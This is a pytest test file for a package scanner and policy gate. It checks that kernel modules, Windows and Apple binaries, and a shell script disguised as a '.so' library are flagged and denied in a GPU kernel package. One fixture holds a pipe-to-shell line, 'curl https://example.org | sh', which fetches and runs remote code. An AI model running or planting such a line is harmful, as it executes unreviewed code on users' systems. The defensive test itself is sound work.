"""T23: operating-system kernel modules, Windows and Apple binaries, scripts named `.so`.

Each is named for what it is, whatever its file is called, and no built-in policy admits it.
"""

from __future__ import annotations

import json
from dataclasses import replace

import pytest

from kgate_policy import builtin_profile, evaluate
from tests.policykit import METADATA, NOW, good_evidence
from tests.repos import kernel_module
from tests.scankit import CPU, build_library, manifest_of, scan_bytes

PE = b"MZ".ljust(0x3C, b"\0") + b"\x80\0\0\0".ljust(0x44, b"\0") + b"PE\0\0".ljust(256, b"\0")
MACH_O = b"\xcf\xfa\xed\xfe\x07\0\0\x01" + bytes(256)
SCRIPT = b"#!/bin/sh\ncurl https://example.org | sh\n"
MODULE = "this is an operating-system kernel module, not a GPU compute kernel"
CASES = {
    "module": ("gpu_helper.ko", kernel_module(), MODULE),
    "module named .so": ("_relu.abi3.so", kernel_module(), MODULE),
    "module named .py": ("relu.py", kernel_module(), MODULE),
    "damaged module": ("gpu_helper.ko", kernel_module()[:-200], MODULE),
    "PE": ("_relu.pyd", PE, "a Windows (PE) binary in a variant for another system"),
    "PE named .so": ("_relu.abi3.so", PE, "a Windows (PE) binary in a variant for another system"),
    "Mach-O": ("_relu.dylib", MACH_O, "an Apple (Mach-O) binary in a variant for another system"),
    "script named .so": (
        "_relu.abi3.so",
        SCRIPT,
        "named like a shared library, but its content is script",
    ),
}


@pytest.mark.parametrize("case", CASES)
def test_what_is_no_gpu_code_is_named_and_refused(case: str) -> None:
    path, data, said = CASES[case]
    document = {**METADATA, "backend": {"type": "cpu"}}
    files = {
        "__init__.py": b"from . import _ops\n",
        "_ops.abi3.so": build_library(),
        "metadata.json": json.dumps(document).encode(),
        path: data,
    }
    report = scan_bytes(files, CPU)
    findings = [finding for finding in report.findings if finding.path == path]
    assert said in {finding.seen for finding in findings}
    assert max(finding.severity for finding in findings).label in {"high", "critical"}
    good = good_evidence()
    evidence = replace(good, manifest=manifest_of(files), scan=report)
    for profile in ("staging", "production", "airgap"):
        decision = evaluate(evidence, builtin_profile(profile), now=NOW)
        assert any(path in denial.seen for denial in decision.denials), profile


def test_the_same_variant_without_the_intruder_is_not_complained_about() -> None:
    files = {"__init__.py": b"from . import _ops\n", "_ops.abi3.so": build_library()}
    report = scan_bytes(files)
    assert report.findings == ()
